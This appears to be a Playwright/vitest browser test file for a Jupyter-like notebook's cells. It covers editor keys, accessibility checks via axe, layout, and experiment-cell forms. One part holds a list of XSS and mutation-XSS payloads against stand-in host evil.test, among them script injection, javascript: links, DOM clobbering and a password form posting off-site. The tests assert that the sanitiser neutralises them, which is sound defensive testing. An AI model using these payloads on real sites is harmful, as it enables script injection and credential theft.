// Cells in a real Chromium, without a notebook around them, under the site's own policy: what hostile notebooks try,
// the editor's keys, what is said by name, and what axe finds.

import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Result } from "axe-core";
import type { Browser, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { ExperimentSpec } from "../../src/model/index.ts";
import type { Cell, Output } from "../../src/storage/index.ts";
import recorded from "../../src/ui/experiment/recorded.json" with { type: "json" };
import { toPython } from "../../src/ui/notebook/book/experiment-source.ts";
import type { CellView } from "../../src/ui/notebook/book/notebook-state.ts";
import { launch } from "../helpers/chromium.ts";
import { root } from "../helpers/fixtures.ts";
import { asked, course, expectQuiet, read, type VisitOptions, visit } from "../helpers/page.ts";
import type { StaticServer } from "../helpers/server.ts";
import { serveCells } from "./open-cells.ts";

type Shown = Partial<Cell> & { id: string; view?: Partial<CellView> };

let server: StaticServer;
let browser: Browser;
let page: Page;
beforeAll(async () => {
  server = await serveCells();
  browser = await launch("no-adapter");
});
afterAll(async () => {
  await browser.close();
  await server.close();
});
beforeEach(() => open());
afterEach(async () => {
  await page.close();
  expectQuiet();
});

async function open(options: VisitOptions = {}): Promise<void> {
  // browsers ask for an icon where a page names none
  ({ page } = await visit(browser, server.url, { allowed: /404/, ...options }));
  await page.waitForFunction(() => "cells" in window);
}

async function show(...cells: Shown[]): Promise<void> {
  await page.evaluate(async (text) => {
    const given = JSON.parse(text);
    window.cells.show(given);
    await Promise.all(given.map(({ id }: { id: string }) => window.cells.element(id).updateComplete));
  }, JSON.stringify(cells));
}

/** Put the cursor into a cell's editor. */
async function edit(id: string, at: "start" | "end" | number = "end"): Promise<void> {
  await page.evaluate(([cell, place]) => window.cells.edit(cell, place), [id, at] as const);
  await page.locator("nn-cell section.edit .cm-content:focus").waitFor();
}

const source = (id: string) => page.evaluate((cell) => window.cells.element(cell).cell.source, id);
const cursor = (id: string) => page.evaluate((cell) => window.cells.element(cell).cursor(), id);
const said = (type: string) =>
  page.evaluate(
    (wanted) => window.cells.said.filter((each) => each.type === wanted).map(({ detail }) => detail),
    type,
  );
const html = (text: string, plain = ""): Output => ({
  output_type: "display_data",
  data: { "text/html": text, "text/plain": plain },
  metadata: {},
});

/** Everything in a page and its shadow roots that matches. */
const deep = (selector: string) =>
  page.evaluate((wanted) => {
    const found: string[] = [];
    const look = (parent: ParentNode) => {
      for (const element of parent.querySelectorAll("*")) {
        if (element.matches(wanted)) found.push(element.outerHTML.slice(0, 200));
        if (element.shadowRoot) look(element.shadowRoot);
      }
    };
    look(document.body);
    return found;
  }, selector);

const evil = (n: number) => `window.owned=${n}`;
/** what has been tried on pages that show other people's HTML */
const attacks = [
  `<script>${evil(1)}</script>`,
  `<script src="https://evil.test/a.js"></script>`,
  `<img src=x onerror="${evil(2)}">`,
  `<img src="https://evil.test/pixel.png" srcset="https://evil.test/2.png 2x" alt="a pixel">`,
  `<svg onload="${evil(3)}"><script>${evil(4)}</script><image href="https://evil.test/i.svg"/></svg>`,
  `<a id="link" href="javascript:${evil(5)}" target="_self">press me</a>`,
  `<a href="jav&#x09;ascript:${evil(6)}">press me too</a>`,
  `<iframe srcdoc="<script>parent.owned=7</script>"></iframe><iframe src="https://evil.test/f"></iframe>`,
  `<object data="https://evil.test/o"></object><embed src="https://evil.test/e">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/m">`,
  `<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/s.css">`,
  `<style>* { background: url(https://evil.test/bg) !important; display: none !important }</style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.test/b2)">over all</div>`,
  `<form action="https://evil.test/post"><input name="password"><button formaction="https://evil.test/p2">Go</button></form>`,
  `<details open ontoggle="${evil(8)}"><summary>x</summary></details>`,
  `<video src="https://evil.test/v.mp4" autoplay onplay="${evil(9)}"></video><audio src="https://evil.test/a.mp3"></audio>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${evil(10)}&gt;">`,
  `<math><mi xlink:href="javascript:${evil(11)}" href="javascript:${evil(12)}">m</mi></math>`,
  `<template><img src=x onerror="${evil(13)}"></template><noscript><p title="</noscript><img src=x onerror=${evil(14)}>"></noscript>`,
  `<b id="cells" name="owned" class="source edit selected">clobber</b><form id="body" name="querySelector"></form>`,
  `<table background="https://evil.test/t.png"><tr><td background="https://evil.test/td.png">cell</td></tr></table>`,
  `<nn-cell></nn-cell><slot name="x"></slot><button popovertarget="p" onclick="${evil(15)}">b</button><dialog open>d</dialog>`,
  `<p tabindex="1" autofocus onfocus="${evil(16)}" contenteditable accesskey="x" style="animation:x 1s" onanimationstart="${evil(17)}">p</p>`,
  `<blockquote cite="https://evil.test/c">quote</blockquote><a ping="https://evil.test/ping" href="https://safe.test/">out</a>`,
];

describe("other people's HTML", () => {
  const forbidden = [
    "script, iframe, object, embed, meta, base, link, style, form, input, textarea, select, video, audio, svg image",
    "template, noscript, slot[name], dialog, canvas, [onerror], [onload], [onclick], [ontoggle], [onfocus], [srcset]",
    '[background], [ping], [popovertarget], [formaction], [contenteditable=""], [tabindex="1"], [autofocus], #cells',
    "#body, [name=owned], .prose .source, .prose nn-cell, .prose [accesskey], .prose button",
  ].join();

  const kinds: Record<string, (text: string) => Shown> = {
    "an output": (text) => ({ id: "a", outputs: [html(text, "plain")] }),
    prose: (text) => ({ id: "a", kind: "markdown", source: `before\n\n${text}\n\nafter` }),
    "an output's Markdown": (text) => ({
      id: "a",
      outputs: [{ output_type: "display_data", data: { "text/markdown": text }, metadata: {} }],
    }),
  };

  it.each(
    Object.keys(kinds).flatMap((kind) => [
      [kind, "under the site's policy", false] as const,
      [kind, "where no policy helps", true] as const,
    ]),
  )("does nothing as %s, %s", async (kind, _, bypassCSP) => {
    await page.close();
    // the browser says of some that the policy forbids them, when the sanitiser reads them
    await open(bypassCSP ? { bypassCSP } : { allowed: /404|Content Security Policy/ });
    const cell = kinds[kind]!;
    const before = asked.length;
    for (const attack of attacks) {
      await show(cell(attack));
      expect(await deep(forbidden), attack).toEqual([]);
      const links = await page.evaluate(() => {
        const found: string[] = [];
        const look = (parent: ParentNode) => {
          for (const element of parent.querySelectorAll("*")) {
            const href = element.getAttribute("href") ?? element.getAttribute("xlink:href");
            if (href !== null) found.push(href);
            if (element.shadowRoot) look(element.shadowRoot);
          }
        };
        look(document.querySelector("main")!);
        return found;
      });
      for (const link of links) expect(link, attack).toMatch(/^(https?:|#nb-)/);
    }
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200)));
    expect(await page.evaluate(() => [window.owned, typeof window.cells.show])).toEqual([
      undefined,
      "function",
    ]);
    expect(
      asked.slice(before).filter((url) => !url.startsWith(server.url) && !url.startsWith("data:")),
    ).toEqual([]);
  });

  it("does nothing all together, and covers nothing", async () => {
    await page.close();
    await open({ allowed: /404|Content Security Policy/ });
    await show({ id: "a", outputs: [html(attacks.join("\n"))] }, { id: "b", source: "after = 1" });
    await page.getByText("press me", { exact: true }).click();
    const editor = page.getByText("after", { exact: false }).last();
    await editor.click({ trial: true });
    expect(await page.evaluate(() => window.owned)).toBeUndefined();
    expect(page.url()).toBe(server.url);
    await page.getByText("Scripts, frames and forms in this output are left out.").waitFor();
  });

  it("says what of it is missing", async () => {
    await show(
      { id: "a", outputs: [html(`<img src="https://evil.test/plot.png" alt="a plot">`)] },
      { id: "b", outputs: [html(`<script>plot()</script><div id="plot"></div>`, "Figure(1)")] },
      {
        id: "c",
        kind: "markdown",
        source: "![a remote picture](https://evil.test/x.png) ![](attachment:gone.png)",
      },
    );
    const link = page.getByRole("link", { name: "Image at evil.test: a plot" });
    expect(await link.getAttribute("rel")).toContain("noopener");
    await page.getByText("Figure(1)").waitFor();
    await page.getByText("Scripts, frames and forms").waitFor();
    await page.getByRole("link", { name: "Image at evil.test: a remote picture" }).waitFor();
    await page.getByText("[Image that is not in this notebook]").waitFor();
  });

  it("that is a page of frames leaves the text that there is instead of it", async () => {
    const frames = '<frameset><frame src="https://evil.test/"></frameset>';
    await show(
      { id: "a", outputs: [html(frames, "A page of frames")] },
      { id: "b", kind: "markdown", source: frames },
      { id: "c", kind: "markdown", source: "after them" },
    );
    await page.getByText("A page of frames").waitFor();
    await page.getByText("after them").waitFor();
  });

  it("keeps what is harmless: tables, links, images of its own, a little layout", async () => {
    const pixel = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
    await show({
      id: "a",
      outputs: [
        html(
          `<table class="dataframe" border="1"><caption>Words</caption><tr><th>word</th></tr><tr><td style="text-align:right;color:red">this</td></tr></table>
           <a href="https://safe.test/">out</a> <img src="${pixel}" alt="a dot" width="9">`,
        ),
      ],
    });
    const cell = page.getByRole("cell", { name: "this" });
    expect(await cell.evaluate((td) => td.getAttribute("style"))).toBe("text-align: right;");
    await page.getByRole("table", { name: "Words" }).waitFor();
    await page.getByRole("img", { name: "a dot" }).waitFor();
    expect(await page.getByRole("link", { name: "out" }).getAttribute("href")).toBe("https://safe.test/");
  });
});

describe("an editor", () => {
  it("stands in a shadow root without any style element, and colours Python", async () => {
    await show({ id: "a", source: "import torch" });
    await edit("a");
    expect(await deep("style")).toEqual([]);
    const keyword = page.locator(".cm-content .tok-keyword");
    expect(await keyword.textContent()).toBe("import");
    const [colour, plain] = await keyword.evaluate((span) => [
      getComputedStyle(span).color,
      getComputedStyle(span.closest(".cm-content")!).color,
    ]);
    expect(colour).not.toBe(plain);
  });

  it("looks the same before it is one", async () => {
    await show({ id: "a", source: "import torch\n\ndef f(x):\n    return x  # same\n" });
    const heights = await page.evaluate(async () => {
      const editor = window.cells.element("a").renderRoot.querySelector("nn-editor")!;
      const before = editor.getBoundingClientRect().height;
      await editor.open();
      await new Promise((resolve) => setTimeout(resolve, 100));
      return [before, editor.getBoundingClientRect().height];
    });
    expect(Math.abs(heights[0]! - heights[1]!)).toBeLessThanOrEqual(1);
  });

  it("goes on further in where a line of Python does not fit, as an editor and before", async () => {
    await page.setViewportSize({ width: 320, height: 800 });
    await show({ id: "a", source: `if x:\n    ${"name = ".repeat(12)}1\n` });
    /** where the words of the second line stand, seen from the first letter of the first, in letters */
    const places = () =>
      page.evaluate(() => {
        const { shadowRoot } = window.cells.element("a").renderRoot.querySelector("nn-editor")!;
        const lines = [...shadowRoot!.querySelectorAll(".line, .cm-line")].map((line) => {
          const range = document.createRange();
          range.selectNodeContents(line);
          return [...range.getClientRects()].filter(({ width }) => width > 0);
        });
        const [{ left: start }] = lines[0]! as [DOMRect];
        const tops = Map.groupBy(lines[1]!, ({ top }) => Math.round(top));
        const letter =
          Number.parseFloat(getComputedStyle(shadowRoot!.querySelector(".line, .cm-line")!).fontSize) * 0.6;
        return [...tops.values()].map((row) =>
          Math.round((Math.min(...row.map(({ left }) => left)) - start) / letter),
        );
      });
    const before = await places();
    expect(before.length).toBeGreaterThan(1);
    // the first row begins with the four blanks
    expect(before).toEqual([0, ...before.slice(1).map(() => 6)]);
    await edit("a");
    expect(await places()).toEqual(before);
  });

  it("indents by Tab, outdents by Shift+Tab, and lets Tab go after Escape", async () => {
    await show({ id: "a", source: "" }, { id: "b", source: "x = 1" });
    await edit("a");
    await page.keyboard.press("Tab");
    await page.keyboard.type("pass");
    expect(await source("a")).toBe("    pass");
    await page.keyboard.press("Shift+Tab");
    expect(await source("a")).toBe("pass");
    await page.keyboard.press("Escape");
    expect(await said("nn-select")).toContainEqual({ id: "a", mode: "command" });
    const where = () =>
      page.evaluate(() => {
        let active: Element | null = document.activeElement;
        while (active?.shadowRoot?.activeElement) active = active.shadowRoot.activeElement;
        return active?.getAttribute("aria-label") ?? "";
      });
    expect(await where()).toBe("Code cell 1");
    // from here Tab passes the cell's buttons, and never gets into the text again
    const passed: string[] = [];
    for (let i = 0; i < 3; i++) {
      await page.keyboard.press("Tab");
      passed.push(await where());
    }
    expect(passed.slice(0, 2)).toEqual(["Run cell 1", "More for cell 1"]);
    expect(passed.join()).not.toContain("Source");
    expect(await source("a")).toBe("pass");
  });

  it("asks for no spelling to be checked, which some browsers do elsewhere", async () => {
    await show({ id: "m", kind: "markdown", source: "mispeled" });
    await edit("m");
    expect(await page.locator(".cm-content").getAttribute("spellcheck")).toBe("false");
  });

  it("leaves by Ctrl+M, too", async () => {
    await show({ id: "a", source: "x" });
    await edit("a");
    await page.keyboard.press("Control+m");
    await page.locator("section.command:focus").waitFor();
  });

  it("leaves the notebook's keys to the notebook", async () => {
    await show({ id: "a", source: "x = 1" });
    await edit("a");
    for (const key of ["Shift+Enter", "Control+Enter", "Alt+Enter", "Control+Shift+Minus", "Control+s"])
      await page.keyboard.press(key);
    const keys = await page.evaluate(() =>
      window.keys.filter((key) => !/^(Shift\+Shift|Ctrl\+Control|Alt\+Alt|Shift\+Ctrl\+Shift)$/.test(key)),
    );
    expect(keys).toEqual([
      "Shift+Enter",
      "Ctrl+Enter",
      "Alt+Enter",
      expect.stringMatching(/^Shift\+Ctrl\+[-_]$/),
      "Ctrl+s",
    ]);
    expect(await source("a")).toBe("x = 1");
  });

  it("says when an arrow key would leave it", async () => {
    await show({ id: "a", source: "one\ntwo" });
    await edit("a", "start");
    await page.keyboard.press("ArrowUp");
    await page.keyboard.press("ArrowDown");
    expect(await said("nn-edge")).toEqual([{ id: "a", side: "above" }]);
    await page.keyboard.press("End");
    await page.keyboard.press("ArrowDown");
    expect(await said("nn-edge")).toEqual([
      { id: "a", side: "above" },
      { id: "a", side: "below" },
    ]);
  });

  it("keeps the cursor when its text is changed from outside", async () => {
    await show({ id: "a", source: "first = 1\nsecond = 2" });
    await edit("a", 14);
    await page.evaluate(() => window.cells.change("a", { source: "first = 1000\nsecond = 2" }));
    await expect.poll(() => cursor("a")).toBe(17);
    expect(await page.evaluate(() => window.cells.said.filter(({ type }) => type === "nn-source"))).toEqual(
      [],
    );
    await page.keyboard.type("X");
    expect(await source("a")).toBe("first = 1000\nsecoXnd = 2");
  });

  it("counts two characters at a line's end as the cell does, and leaves them as they are", async () => {
    const lines = "first = 1\r\nsecond = 2\r\nthird = 3";
    await show({ id: "a", source: lines });
    await edit("a", 11);
    expect(await cursor("a")).toBe(11);
    await page.evaluate(() => window.cells.element("a").selectRange(23, 28));
    await expect.poll(() => page.evaluate(() => getSelection()?.toString() ?? "")).toBe("third");
    expect(await cursor("a")).toBe(28);
    expect(await source("a")).toBe(lines);
  });

  it("completes what it knows without Python, and asks Python when that runs", async () => {
    await show({ id: "a", source: "torch.log_soft" });
    await edit("a");
    await page.keyboard.press("Tab");
    const list = page.getByRole("listbox");
    await list.getByRole("option", { name: /^log_softmax/ }).waitFor();
    const editor = page.getByRole("textbox", { name: "Source of cell 1" });
    const [active, options] = await editor.evaluate((content) => {
      const id = content.getAttribute("aria-activedescendant");
      const found = id && (content.getRootNode() as ShadowRoot).getElementById(id);
      return [
        found ? found.textContent : "",
        content.getAttribute("aria-expanded") ?? content.getAttribute("aria-haspopup"),
      ];
    });
    expect(active).toContain("log_softmax");
    expect(options).not.toBeNull();
    // Escape closes the list first, and leaves only then
    await page.keyboard.press("Escape");
    await list.waitFor({ state: "detached" });
    expect(await page.locator("section.edit").count()).toBe(1);
    await page.evaluate(() =>
      window.cells.completeWith(async (_, position) => ({
        from: position - 2,
        options: [{ label: "ft_my_own", kind: "variable" }],
      })),
    );
    await page.keyboard.press("Control+Space");
    await list.getByRole("option", { name: /ft_my_own/ }).waitFor();
    await page.keyboard.press("Escape");
  });

  it("comes when its cell comes near, so that two hundred cells cost little", async () => {
    const cells = Array.from({ length: 200 }, (_, i) => ({
      id: `c${i}`,
      source: `x_${i} = ${i}\nprint(x_${i})`,
    }));
    await show(...cells);
    await page.locator(".cm-content").first().waitFor();
    const count = () => page.locator(".cm-content").count();
    const first = await count();
    expect(first).toBeLessThan(60);
    await page.locator("nn-cell").last().scrollIntoViewIfNeeded();
    await page.locator("nn-cell").last().locator(".cm-content").waitFor();
    expect(await count()).toBeLessThan(120);
    await edit("c0");
    // what a key costs, from its press to the frame that shows it; reported, as a busy machine proves nothing
    const milliseconds = await page.evaluate(async () => {
      const times: number[] = [];
      for (let i = 0; i < 20; i++) {
        const start = performance.now();
        document.execCommand("insertText", false, "a");
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
        times.push(performance.now() - start);
      }
      return times.sort((a, b) => a - b)[10]!;
    });
    console.log(`a key in a page of 200 cells: median ${milliseconds.toFixed(1)} ms to the next frame`);
    expect(await source("c0")).toContain("a".repeat(20));
  });
});

describe("a cell", () => {
  const failure: Output = {
    output_type: "error",
    ename: "ZeroDivisionError",
    evalue: "division by zero",
    traceback: ["\x1b[31mZeroDivisionError\x1b[0m: division by zero"],
  };
  const comparison: Output = {
    output_type: "display_data",
    metadata: {},
    data: {
      "application/vnd.neuron-notebook.comparison+json": {
        rows: recorded.rows.map(({ word, before, after, delta }) => ({ word, before, after, delta })),
        caption: "What the hook did",
        note: "computed in a test",
      },
      "text/plain": "det",
    },
  };
  const every: Shown[] = [
    {
      id: "m",
      kind: "markdown",
      source: "# Title\n\nProse with $x^2$ and `code`.\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n## The hook",
    },
    {
      id: "c",
      source: "1 / 0",
      count: 3,
      outputs: [failure, { output_type: "stream", name: "stderr", text: "careful" }],
      view: { stale: true },
    },
    {
      id: "x",
      source: toPython(course, "m"),
      metadata: { neuron_notebook: { experiment: course as never } },
      outputs: [comparison],
    },
    {
      id: "h",
      source: "table",
      view: { run: "running" },
      outputs: [html("<table><tr><th>a</th></tr><tr><td>1</td></tr></table>")],
    },
    {
      id: "l",
      source: "print",
      outputs: [{ output_type: "stream", name: "stdout", text: `${"wide  ".repeat(100)}\n`.repeat(90) }],
    },
    { id: "r", kind: "raw", source: "raw" },
    { id: "e", kind: "markdown", source: "" },
  ];

  it("covers nothing of its words with its menu before that is seen, on a phone", async () => {
    await page.setViewportSize({ width: 390, height: 800 });
    await show({ id: "c", source: "1" }, { id: "m", kind: "markdown", source: "word ".repeat(200) });
    await page.mouse.move(0, 799);
    // cells are drawn one after the other
    await page.locator("nn-markdown").waitFor();
    const [hit, painted] = await page.evaluate(() => {
      const { shadowRoot } = window.cells.element("m");
      const { right, top } = shadowRoot!.querySelector("nn-markdown")!.getBoundingClientRect();
      const at = shadowRoot!.elementFromPoint(right - 5, top + 10)!;
      return [at.localName, getComputedStyle(shadowRoot!.querySelector(".gutter")!).backgroundColor];
    });
    expect(hit).toBe("nn-markdown");
    expect(painted).toBe("rgba(0, 0, 0, 0)");
  });

  it("has a name and its parts in reading order", async () => {
    await show(...every);
    const names = await page
      .getByRole("region")
      .evaluateAll((all) =>
        all.map((each) => each.getAttribute("aria-label")).filter((name) => /cell \d/.test(name!)),
      );
    expect(names).toEqual([
      "Text cell 1",
      "Code cell 2",
      "Experiment cell 3",
      "Code cell 4",
      "Code cell 5",
      "Raw cell 6",
      "Text cell 7",
    ]);
    const cell = page.getByRole("region", { name: "Code cell 2" });
    await cell.getByText("out of date").waitFor();
    await cell.getByText("[3]").waitFor();
    const output = cell.getByRole("group", { name: "Output of cell 2" });
    expect(await output.getByRole("group", { name: "Error" }).textContent()).toMatch(
      /Error:\s+ZeroDivisionError: division by zero/,
    );
    await page
      .getByRole("region", { name: "Code cell 4" })
      .getByText("running")
      .waitFor({ state: "attached" });
    await page.getByRole("table", { name: "What the hook did" }).waitFor();
  });

  it.each([
    "light",
    "dark",
  ] as const)("gives axe nothing to find in command and edit mode, %s", async (colorScheme) => {
    await page.emulateMedia({ colorScheme });
    await show(...every);
    await page.locator(".cm-content").first().waitFor();
    expect(await findings(page)).toEqual([]);
    await edit("c");
    await page.keyboard.press("Control+Space");
    expect(await findings(page)).toEqual([]);
    await page.keyboard.press("Escape");
    await edit("m");
    expect(await findings(page)).toEqual([]);
    await page.getByRole("button", { name: "More for cell 1" }).click();
    expect(await findings(page)).toEqual([]);
  });

  it.each([
    320, 390, 820, 1000,
  ])("scrolls nothing sideways but what is inside it, %i px wide", async (width) => {
    await page.setViewportSize({ width, height: 700 });
    await show(...every);
    await page.getByText("Show all").first().waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(
      0,
    );
    const wide = page
      .getByRole("region", { name: "Code cell 5" })
      .getByRole("region", { name: "Output" })
      .first();
    expect(
      await wide.evaluate((pre) => [pre.scrollWidth > pre.clientWidth, pre.getAttribute("tabindex")]),
    ).toEqual([true, "0"]);
    // each button can be hit
    const small = await page.evaluate(() => {
      const found: string[] = [];
      const look = (parent: ParentNode) => {
        for (const element of parent.querySelectorAll<HTMLElement>("*")) {
          if (
            element.matches("button, summary, input, select") &&
            element.checkVisibility({ visibilityProperty: true })
          ) {
            const { width, height } = (element.closest("label") ?? element).getBoundingClientRect();
            if (Math.min(width, height) < 24) found.push(`${element.outerHTML} ${width} x ${height}`);
          }
          if (element.shadowRoot) look(element.shadowRoot);
        }
      };
      look(document.body);
      return found;
    });
    expect(small).toEqual([]);
  });

  it("is moved, turned and deleted from its menu by keyboard", async () => {
    await show({ id: "a", source: "x", outputs: [{ output_type: "stream", name: "stdout", text: "y" }] });
    const more = page.getByRole("button", { name: "More for cell 1" });
    const entries = [
      ["Move up", "nn-move", { id: "a", by: -1 }],
      ["Move down", "nn-move", { id: "a", by: 1 }],
      ["Duplicate", "nn-duplicate", { id: "a" }],
      ["Insert text below", "nn-insert", { id: "a", side: "below", kind: "markdown" }],
      ["Make it text", "nn-kind", { id: "a", kind: "markdown" }],
      ["Hide output", "nn-outputs-toggle", { id: "a" }],
      ["Clear output", "nn-outputs-clear", { id: "a" }],
      ["Delete", "nn-delete", { id: "a" }],
    ] as const;
    for (const [name, type, detail] of entries) {
      await more.press("Enter");
      await page.getByRole("button", { name, exact: true }).press("Enter");
      expect((await said(type)).at(-1)).toEqual(detail);
    }
    await more.press("Enter");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("Escape");
    expect(await more.getAttribute("aria-expanded")).toBe("false");
    expect(await more.evaluate((button) => button.matches(":focus"))).toBe(true);
  });

  it("runs and stops by its button", async () => {
    await show({ id: "a", source: "x" });
    await page.getByRole("button", { name: "Run cell 1" }).click();
    expect(await said("nn-run-cell")).toHaveLength(1);
    await page.evaluate(() => window.cells.change("a", {}, { run: "running" }));
    await page.getByRole("button", { name: "Stop" }).click();
    expect(await said("nn-interrupt")).toHaveLength(1);
  });

  it("opens prose to be edited by a double click", async () => {
    await show({ id: "c", source: "x" }, { id: "m", kind: "markdown", source: "# Read *me*" });
    await page.getByRole("heading", { name: "Read me" }).dblclick();
    await page.locator("section.edit .cm-content:focus").waitFor();
    await page.keyboard.type("!");
    expect(await source("m")).toBe("# Read *me*!");
    await page.keyboard.press("Escape");
    await page.evaluate(() => window.cells.change("m", {}, { mode: "command" }));
    await page.getByRole("heading", { name: "Read me!" }).waitFor();
  });

  it("leads from a link to a heading of another cell", async () => {
    const far = "text\n\n".repeat(60);
    await show(
      { id: "a", kind: "markdown", source: "[go](#The-Hook)" },
      { id: "b", kind: "markdown", source: `${far}## The hook` },
    );
    await page.getByRole("link", { name: "go" }).click();
    const heading = page.getByRole("heading", { name: "The hook" });
    await expect.poll(() => heading.evaluate((h) => h.getBoundingClientRect().top < innerHeight)).toBe(true);
    expect(await heading.evaluate((h) => h.matches(":focus"))).toBe(true);
    expect(new URL(page.url()).hash).toBe("");
  });

  it("says in bold which error it was, where its traceback has no looks of its own", async () => {
    const traceback = ["Traceback (most recent call last):", "  Cell [1], line 1", "KeyError: 'KeyError'"];
    const plain: Output = { output_type: "error", ename: "KeyError", evalue: "'KeyError'", traceback };
    await show({ id: "p", source: "1", outputs: [plain] }, { id: "c", source: "1", outputs: [failure] });
    const group = page.getByRole("group", { name: "Error" });
    expect(await group.first().locator(".bold").allTextContents()).toEqual(["KeyError"]);
    expect(await group.first().locator("pre").textContent()).toBe(traceback.join("\n"));
    expect(await group.nth(1).locator(".bold").count()).toBe(0);
  });

  it("folds long output, and shows it all when asked", async () => {
    const text = Array.from({ length: 300 }, (_, i) => `line ${i}`).join("\n");
    await show({ id: "a", outputs: [{ output_type: "stream", name: "stdout", text }] });
    const output = page.getByRole("group", { name: "Output of cell 1" });
    expect(await read(output)).not.toContain("line 150");
    await output.getByRole("button", { name: "Show all (268 more lines)" }).click();
    expect(await read(output)).toContain("line 150");
    await output.getByRole("button", { name: "Show less" }).click();
    expect(await read(output)).not.toContain("line 150");
  });

  it("shows formulas as MathML that the browser lays out", async () => {
    await show({
      id: "m",
      kind: "markdown",
      source: "$$\\frac{a}{b} \\quad \\begin{cases}1\\\\2\\end{cases}$$ and $\\nosuch$",
    });
    const fraction = page.locator("mfrac");
    const [height, line] = await fraction.evaluate((f) => [
      f.getBoundingClientRect().height,
      f.firstElementChild!.getBoundingClientRect().height,
    ]);
    expect(height).toBeGreaterThan(1.5 * line!);
    expect(await page.locator("code.tex-error").textContent()).toBe("$\\nosuch$");
  });
});

describe("an experiment cell", () => {
  const experiment: Shown = {
    id: "x",
    source: toPython(course, "m"),
    metadata: { neuron_notebook: { experiment: course as never } },
  };

  it("tells of edits that can run, and keeps half-typed ones", async () => {
    await show(experiment);
    const words = page.getByRole("combobox", { name: "Words to compare" });
    await words.fill("this, that, ");
    expect((await said("nn-experiment")).at(-1)).toMatchObject({
      id: "x",
      spec: { candidates: ["this", "that"] },
    });
    const { spec } = (await said("nn-experiment")).at(-1) as { spec: ExperimentSpec };
    await page.evaluate((source) => window.cells.change("x", { source }), toPython(spec, "m"));
    expect(await words.inputValue()).toBe("this, that, ");
    const before = (await said("nn-experiment")).length;
    await page.getByRole("spinbutton", { name: "Layer" }).fill("");
    expect(await said("nn-experiment")).toHaveLength(before);
  });

  it("follows what is changed from outside", async () => {
    await show(experiment);
    const other = { ...course, neuron: 7 };
    await page.evaluate((source) => window.cells.change("x", { source }), toPython(other, "m"));
    await expect.poll(() => page.getByRole("spinbutton", { name: "Neuron" }).inputValue()).toBe("7");
  });

  it("takes several neurons, and tells of them once each is said", async () => {
    await show(experiment);
    await page.getByRole("button", { name: "Add another neuron" }).click();
    // it is not said yet which
    expect(await said("nn-experiment")).toEqual([]);
    await page.keyboard.type("7");
    const more = [{ layer: 9, neuron: 7, hook: { kind: "suppress" } }];
    expect((await said("nn-experiment")).at(-1)).toMatchObject({ id: "x", spec: { neuron: 1094, more } });
    await page.getByRole("button", { name: "Remove edit 1" }).click();
    const { spec } = (await said("nn-experiment")).at(-1) as { spec: ExperimentSpec };
    expect([spec.neuron, spec.more]).toEqual([7, undefined]);
  });

  it("runs once by its button and by its keys", async () => {
    await show(experiment);
    await page.getByRole("button", { name: "Run", exact: true }).click();
    expect(await said("nn-run-cell")).toHaveLength(1);
    await page.getByRole("textbox", { name: "Sentence" }).press("Control+Enter");
    expect(await said("nn-run-cell")).toHaveLength(2);
    expect(await page.evaluate(() => window.keys.filter((key) => key.includes("Enter")))).toEqual([]);
  });

  it("shows its Python, and gives it over", async () => {
    await show(experiment);
    await page.getByText("Show Python").click();
    const python = page.getByRole("region", { name: "Python of this experiment" });
    expect(await python.textContent()).toBe(toPython(course, "m"));
    await page.getByRole("button", { name: "Edit as Python" }).click();
    expect(await said("nn-experiment-form")).toEqual([{ id: "x", form: false }]);
  });

  it("is Python when that was edited by hand, and offers its form", async () => {
    await show({ ...experiment, source: `${toPython(course, "m")}\nprint("more")` });
    await page.getByRole("region", { name: "Code cell 1" }).waitFor();
    await page.getByRole("button", { name: "Back to the form" }).click();
    expect(await said("nn-experiment-form")).toEqual([{ id: "x", form: true }]);
  });
});

const axe = readFileSync(join(root, "node_modules/axe-core/axe.min.js"), "utf8");

/** what axe-core finds serious or critical, as "rule: elements" */
async function findings(of: Page): Promise<string[]> {
  if (!(await of.evaluate(() => "axe" in globalThis))) await of.evaluate(axe);
  const violations = await of.evaluate<Result[]>(
    'axe.run(document, { resultTypes: ["violations"] }).then((results) => results.violations)',
  );
  return violations
    .filter(({ impact }) => impact === "serious" || impact === "critical")
    .map(
      ({ id, nodes }) =>
        `${id}: ${nodes.map(({ html: element, any }) => `${element} ${any[0]?.message}`).join("; ")}`,
    );
}
